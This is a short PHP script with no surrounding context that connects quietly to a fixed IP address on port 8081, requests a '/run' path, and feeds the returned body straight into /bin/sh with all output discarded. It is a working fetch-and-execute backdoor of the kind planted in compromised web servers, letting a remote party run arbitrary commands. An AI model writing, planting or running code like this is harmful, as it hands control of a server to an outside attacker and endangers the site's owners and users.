<?php
$s = @fsockopen('198.51.100.61', 8081, $n, $e, 4);
if ($s) {
    fwrite($s, "GET /run HTTP/1.0\r\n\r\n");
    $t = stream_get_contents($s);
    $code = substr($t, strpos($t, "\r\n\r\n") + 4);
    $p = proc_open('/bin/sh', [['pipe', 'r'], ['file', '/dev/null', 'w'], ['file', '/dev/null', 'w']], $io);
    fwrite($io[0], $code); fclose($io[0]);
}
